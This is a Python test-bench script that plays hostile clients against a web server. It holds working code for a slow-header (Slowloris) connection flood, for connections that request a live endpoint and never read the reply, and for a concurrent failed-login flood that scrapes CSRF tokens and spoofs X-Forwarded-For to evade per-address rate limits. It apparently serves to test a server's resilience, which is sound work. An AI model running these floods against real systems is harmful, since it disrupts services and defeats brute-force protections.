"""People who mean no good, or whose phones do not: `python -m tests.bench.crowd HOST PORT KIND COUNT`.

`loris` sends a byte of its header a second, `stuck` asks for the live page and never reads it, `login` tries one wrong
password after the other, COUNT at a time. Says "ready" when all are there, and goes when its standard input closes.
"""

import itertools
import os
import re
import socket
import sys
import threading
import time

SMALLEST_BUFFER = 2048
TOKEN = re.compile(rb'name="csrf_token" value="([^"]+)"')
COOKIE = re.compile(rb"Set-Cookie: (form=[^;]+)")


def main(host: str, port: int, kind: str, count: int) -> None:
    crowd = {"loris": loris, "stuck": stuck, "login": login}[kind]
    there = threading.Barrier(2)
    threading.Thread(target=crowd, args=(host, port, count, there), daemon=True).start()
    there.wait(60)
    print("ready", flush=True)
    sys.stdin.read()
    os._exit(0)


def loris(host: str, port: int, count: int, there: threading.Barrier) -> None:
    wires = [_connected(host, port) for _ in range(count)]
    there.wait()
    for letter in itertools.cycle(b"GET / HTTP/1.1\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"):
        for number, wire in enumerate(wires):
            try:
                wire.send(bytes([letter]))
            except OSError:
                wires[number] = _connected(host, port)
        time.sleep(1.0)


def stuck(host: str, port: int, count: int, there: threading.Barrier) -> None:
    wires = []
    for _ in range(count):
        wire = _connected(host, port)
        wire.sendall(f"GET /api/live HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        wires.append(wire)
    there.wait()
    time.sleep(3600.0)


def login(host: str, port: int, count: int, there: threading.Barrier) -> None:
    for _ in range(count):
        threading.Thread(target=_try_passwords, args=(host, port), daemon=True).start()
    there.wait()


def _try_passwords(host: str, port: int) -> None:
    for number in itertools.count():
        try:
            page = _asked(host, port, b"GET", b"", b"", number)
            token, cookie = TOKEN.search(page), COOKIE.search(page)
            if token and cookie:
                body = b"name=n%d&password=wrong-password&csrf_token=%s" % (number, token[1])
                _asked(host, port, b"POST", body, cookie[1], number)
        except OSError:
            time.sleep(0.1)


def _asked(host: str, port: int, method: bytes, body: bytes, cookie: bytes, number: int) -> bytes:
    """As through a proxy, each time from somewhere else, so that no count of tries per address ends it."""
    door = f"{host}:{port}".encode()
    words = [method + b" /sign-in HTTP/1.1", b"Host: " + door, b"Origin: http://" + door, b"Connection: close"]
    words += [b"X-Forwarded-For: 203.0.%d.%d" % (number // 250 % 250, number % 250), b"Cookie: " + cookie]
    words += [b"Content-Type: application/x-www-form-urlencoded", b"Content-Length: %d" % len(body), b"", body]
    with socket.create_connection((host, port), 30) as wire:
        wire.sendall(b"\r\n".join(words))
        return b"".join(iter(lambda: wire.recv(65536), b""))


def _connected(host: str, port: int) -> socket.socket:
    wire = socket.socket()
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALLEST_BUFFER)
    wire.connect((host, port))
    return wire


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]))
